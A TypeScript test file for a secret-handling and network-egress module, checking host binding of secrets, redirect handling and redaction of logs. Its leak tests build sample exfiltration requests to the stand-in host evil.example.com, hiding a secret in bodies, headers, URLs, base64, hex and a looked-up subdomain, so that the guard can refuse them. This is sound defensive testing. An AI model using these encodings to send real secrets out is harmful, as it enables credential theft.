import assert from "node:assert/strict";
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, beforeEach, describe, it } from "node:test";
import { LIMITS } from "@oa/shared/core/limits.ts";
import type { Permission } from "@oa/shared/core/permission.ts";
import { Fault } from "@oa/shared/core/refusal.ts";
import { openEgress } from "./egress.ts";
import { openRandom } from "./random.ts";
import { openSecrecy } from "./secrecy.ts";
import type { VaultSecret } from "./vault.ts";

const VALUE = "sw0rd/fish&+=1234";
const set_at = "2026-01-01T00:00:00.000Z";
const grants = (...hosts: string[]): readonly Permission[] => [
  ...hosts.map((host) => `network:egress:${host}`),
  ...hosts.map((host) => `secret:use:TOKEN@${host}`),
];

/** Over a vault that holds one secret, for these hosts. */
function secrecyOf(hosts: readonly string[], status: "open" | "locked" = "open", value = VALUE) {
  const all: readonly VaultSecret[] = status === "open" ? [{ name: "TOKEN", value, hosts, set_at }] : [];
  const vault = { status: () => status, all: () => all, get: (name: string) => all.find((one) => one.name === name) };
  return openSecrecy(vault, openRandom());
}

const refuses = (code: string, action: () => unknown, pattern = /./): void =>
  assert.throws(action, (error) => {
    assert.ok(error instanceof Fault, String(error));
    assert.equal(error.code, code, error.message);
    assert.match(error.message, pattern);
    assert.ok(!error.message.includes("sw0rd"), error.message);
    return true;
  });

describe("a secret is put in as it is sent", () => {
  const secrecy = secrecyOf(["api.example.com", "127.0.0.1:8080"]);
  const slot = secrecy.slot("TOKEN");
  const grant = grants("api.example.com", "127.0.0.1:8080", "other.example.com");
  const send = (url: string, headers: Record<string, string> = {}, body?: string) =>
    secrecy.outgoing({ url: new URL(url), headers, body }, grant);

  it("in a header, and in the path and query of an address, encoded", () => {
    const sent = send(`https://api.example.com/x/${slot}?key=${slot}&b=2`, { authorization: `Bearer ${slot}` });
    assert.deepEqual(sent.headers, { authorization: `Bearer ${VALUE}` });
    assert.equal(
      sent.url.href,
      `https://api.example.com/x/${encodeURIComponent(VALUE)}?key=${encodeURIComponent(VALUE)}&b=2`,
    );
    assert.equal(sent.url.searchParams.get("key"), VALUE);
  });
  it("to an address of this machine, which needs no encryption", () => {
    assert.equal(send("http://127.0.0.1:8080/", { "x-key": slot }).headers["x-key"], VALUE);
  });
  it("and nothing else of a request is touched", () => {
    const request = {
      url: new URL("https://other.example.com/a%2Fb?c=%20d#e"),
      headers: { "x-a": "${secrets.TOKEN}" },
      body: "b",
    };
    const sent = secrecy.outgoing(request, grant);
    assert.deepEqual([sent.url.href, sent.headers, sent.body], [request.url.href, request.headers, "b"]);
  });

  it("but not to a host that its owner did not bind it to, whatever was granted", () => {
    refuses("secret_not_bound", () => send("https://other.example.com/", { a: slot }), /bound to api\.example\.com/);
    refuses("secret_not_bound", () => send("https://api.example.com:8443/", { a: slot }), /does not grant it/);
  });
  it("but not where the install does not grant it, whatever the owner bound it to", () => {
    const bare = [
      "network:egress:api.example.com",
      "secret:use:OTHER@api.example.com",
      "secret:use:TOKEN@other.example.com",
    ];
    const request = { url: new URL("https://api.example.com/"), headers: { a: slot }, body: undefined };
    refuses("secret_not_bound", () => secrecy.outgoing(request, bare), /does not grant it/);
    refuses("secret_not_bound", () => secrecy.outgoing(request, []), /does not grant it/);
  });
  it("but not unencrypted over the internet", () => {
    refuses("secret_not_bound", () => send("http://api.example.com/", { a: slot }), /unencrypted/);
  });
  it("but not out of a locked vault, or one that does not hold it", () => {
    const request = { url: new URL("https://api.example.com/"), headers: {}, body: undefined };
    const locked = secrecyOf([], "locked");
    const headers = { a: locked.slot("TOKEN") };
    refuses("vault_locked", () => locked.outgoing({ ...request, headers }, grant), /oa secrets unlock/);
    const other = { a: secrecy.slot("OTHER") };
    const asked = ["network:egress:api.example.com", "secret:use:OTHER@api.example.com"];
    refuses(
      "secret_missing",
      () => secrecy.outgoing({ ...request, headers: other }, asked),
      /oa secrets set OTHER --host api/,
    );
  });
  it("and what another worker's slot looks like is only text", () => {
    const foreign = secrecyOf(["api.example.com"]).slot("TOKEN");
    assert.deepEqual(send("https://api.example.com/", { a: foreign }).headers, { a: foreign });
  });
});

describe("no secret leaves otherwise", () => {
  const secrecy = secrecyOf(["api.example.com"]);
  const grant = grants("api.example.com", "evil.example.com", "*.evil.example.com");
  const npm = `npm_${"aB3dE6gH9k".repeat(4).slice(0, 36)}`;
  const leaks: Readonly<Record<string, readonly [string, Record<string, string>, (string | Uint8Array)?]>> = {
    "in a body": ["/", {}, `{"text":"${VALUE}"}`],
    "in a body of bytes": ["/", {}, Buffer.from(`\u0000\u00ff ${VALUE}`)],
    "in a body, in base64": ["/", {}, Buffer.from(`user:${VALUE}`).toString("base64")],
    "in a body, escaped": [
      "/",
      {},
      JSON.stringify({ a: [...VALUE].map((char) => `\\u00${char.charCodeAt(0).toString(16)}`).join("") }),
    ],
    "in a header": ["/", { "x-note": VALUE }],
    "in a header, as a password": ["/", { authorization: `Basic ${Buffer.from(`a:${VALUE}`).toString("base64")}` }],
    "in a path": [`/${encodeURIComponent(VALUE)}`, {}],
    "in a query": [`/?q=${encodeURIComponent(VALUE)}`, {}],
    "in a fragment": [`/#${encodeURIComponent(VALUE)}`, {}],
    "in hex in a query": [`/?q=${Buffer.from(VALUE).toString("hex")}`, {}],
    "a key in a known format": ["/", {}, `the token is ${npm}`],
    "a key in a known format, in a header": ["/", { "x-token": npm }],
  };
  for (const [what, [path, headers, body]] of Object.entries(leaks)) {
    it(what, () => {
      const request = { url: new URL(`https://evil.example.com${path}`), headers, body };
      refuses("secret_leak", () => secrecy.outgoing(request, grant), /was not sent/);
    });
  }
  it("in a host's name, which is looked up", () => {
    const name = Buffer.from(VALUE).toString("hex");
    const request = { url: new URL(`https://${name}.evil.example.com/`), headers: {}, body: undefined };
    refuses("secret_leak", () => secrecy.outgoing(request, grant), /request to \[redacted\]/);
  });
  it("but to the host it is bound to and granted for, it may go as it is", () => {
    const request = { url: new URL("https://api.example.com/"), headers: { a: VALUE }, body: VALUE };
    assert.deepEqual(secrecy.outgoing(request, grant), request);
    refuses("secret_leak", () => secrecy.outgoing({ ...request, body: npm }, grant), /an npm token/);
  });
  it("and what holds no secret goes through", () => {
    const request = {
      url: new URL("https://evil.example.com/?sha=abc"),
      headers: { a: "b" },
      body: "hello ${secrets.TOKEN}",
    };
    assert.deepEqual(secrecy.outgoing(request, grant), request);
  });
});

describe("what is recorded holds no secret", () => {
  const secrecy = secrecyOf(["api.example.com"]);
  secrecy.keep({ name: "a key of this worker", value: "7".repeat(64) });
  it("and data without one is the very same", () => {
    const data = { a: ["b", 1, null, true], c: { d: "plain" } };
    assert.equal(secrecy.clean(data), data);
  });
  it("in values and in keys, at any depth", () => {
    const data = { a: [{ [`x${VALUE}`]: `y ${VALUE} z` }], b: 1, c: "7".repeat(64) };
    assert.deepEqual(secrecy.clean(data), { a: [{ "x[redacted]": "y [redacted] z" }], b: 1, c: "[redacted]" });
  });
  it("that is JSON itself, also where it was read as such", () => {
    const value = '{"id":"acct-5519","key":"k-8f7d6c5b"}';
    const clean = secrecyOf(["api.example.com"], "open", value).clean({
      ...{ id: "step-1", body: value, count: 1 },
      json: { ok: true, you: "hello", sent: [JSON.parse(value), 7] },
    });
    assert.deepEqual(clean, {
      ...{ id: "step-1", body: "[redacted]", count: 1 },
      json: { ok: true, you: "hello", sent: [{ "[redacted]": "[redacted]" }, 7] },
    });
  });
  it("that is a number, also where it was read as such", () => {
    const clean = secrecyOf(["api.example.com"], "open", "49302817.5521").clean({ json: [1, 49302817.5521] });
    assert.deepEqual(clean, { json: [1, "[redacted]"] });
  });
  it("that is a seed phrase, also as a list of its words", () => {
    const words = "legal winner thank year wave sausage worth useful legal winner thank yellow".split(" ");
    const { json, other } = secrecy.clean({ json: { words }, other: words.slice(1) });
    assert.deepEqual(new Set(json.words), new Set(["[redacted]"]));
    assert.deepEqual(other, words.slice(1));
  });
  it("whose parts stand in fields of the value itself, without a loss of those", () => {
    const body = "legal winner thank year wave sausage worth useful legal winner thank";
    const event = { step_id: "a", status: 200, last: body, more: "yellow" };
    assert.deepEqual(secrecy.clean(event), event);
  });
  it("but says where one was used", () => {
    const data = { headers: { authorization: `Bearer ${secrecy.slot("TOKEN")}` } };
    assert.deepEqual(secrecy.clean(data), { headers: { authorization: "Bearer ${secrets.TOKEN}" } });
  });
  it("in bytes of any kind", async () => {
    const bytes = Buffer.from([0, 255, ...Buffer.from(VALUE), 0, 200]);
    assert.deepEqual([...(await secrecy.cleanBytes(bytes))], [0, 255, ...Buffer.from("[redacted]"), 0, 200]);
    const plain = Buffer.from([0, 255, 1, 200]);
    assert.equal(await secrecy.cleanBytes(plain), plain);
    assert.deepEqual([await secrecy.knows(bytes), await secrecy.knows(plain)], [true, false]);
  });
  it("in as many bytes as there are, wherever pieces of them meet, while others go on", async () => {
    const npm = `npm_${"aB3dE6gH9k".repeat(4).slice(0, 36)}`;
    const key = `-----BEGIN PRIVATE KEY-----\n${"MIIE".repeat(4_000)}\n-----END PRIVATE KEY-----`;
    const longer = `x${npm}y`; // part of a longer word: no token
    for (const secret of [VALUE, npm, key, longer]) {
      for (const before of [secret.length, secret.length - 1, Math.floor(secret.length / 2), 1, 0]) {
        const text = `${" ".repeat(LIMITS.secret_piece_chars - before)}${secret} and ${VALUE}${".".repeat(LIMITS.secret_piece_chars)}`;
        let turns = 0;
        const count = (): void => {
          turns += 1;
        };
        setImmediate(count);
        const clean = Buffer.from(await secrecy.cleanBytes(Buffer.from(text))).toString();
        assert.equal(clean, secrecy.clean(text), `${secret.slice(0, 20)} at ${before}`);
        assert.ok(turns > 0, "others had their turn");
      }
    }
  });
  it("in errors, where also what only looks like one goes", () => {
    assert.equal(secrecy.redact(`no: ${VALUE}, password=hunter22`), "no: [redacted], password=[redacted]");
  });
});

describe("over the network", () => {
  const seen: IncomingMessage[] = [];
  let server: Server;
  let other: Server;
  const hostOf = (of: Server): string => `127.0.0.1:${(of.address() as AddressInfo).port}`;
  const listen = (answer: (url: string) => Record<string, string> | null): Promise<Server> => {
    const made = createServer((request, response) => {
      seen.push(request);
      const headers = answer(request.url ?? "/");
      response.writeHead(headers === null ? 200 : 302, headers ?? {}).end("ok");
    });
    return new Promise((resolve) => made.listen(0, "127.0.0.1", () => resolve(made)));
  };
  before(async () => {
    other = await listen(() => null);
    server = await listen((url) => {
      if (url.startsWith("/away")) return { location: `http://${hostOf(other)}/landed` };
      if (url.startsWith("/echo")) return { location: `http://${hostOf(other)}/${encodeURIComponent(VALUE)}` };
      return url.startsWith("/here") ? { location: "/landed" } : null;
    });
  });
  beforeEach(() => void seen.splice(0));
  after(() => {
    server.close();
    other.close();
  });
  const fetch = (path: string) => {
    const secrecy = secrecyOf([hostOf(server)]);
    const hosts = [hostOf(server), hostOf(other)];
    const egress = openEgress(grants(...hosts), { private_allow: hosts, secrets: secrecy });
    const headers = { authorization: `Bearer ${secrecy.slot("TOKEN")}` };
    const url = `http://${hostOf(server)}${path}`;
    return egress.fetch({
      url,
      method: "GET",
      headers,
      timeout_ms: 5_000,
      max_bytes: 1_000,
      signal: new AbortController().signal,
    });
  };
  it("the host it is bound to gets it, also after a redirect to itself", async () => {
    const { status, url } = await fetch("/here");
    assert.deepEqual([status, url], [200, `http://${hostOf(server)}/landed`]);
    assert.deepEqual(
      seen.map(({ headers }) => headers.authorization),
      [`Bearer ${VALUE}`, `Bearer ${VALUE}`],
    );
  });
  it("a host that is redirected to does not get it", async () => {
    assert.equal((await fetch("/away")).status, 200);
    assert.deepEqual(
      seen.map(({ headers }) => headers.authorization),
      [`Bearer ${VALUE}`, undefined],
    );
  });
  it("nor in the address of the redirect, where the first host put it", async () => {
    await assert.rejects(fetch("/echo"), { code: "secret_leak" });
    assert.equal(seen.length, 1);
  });
});
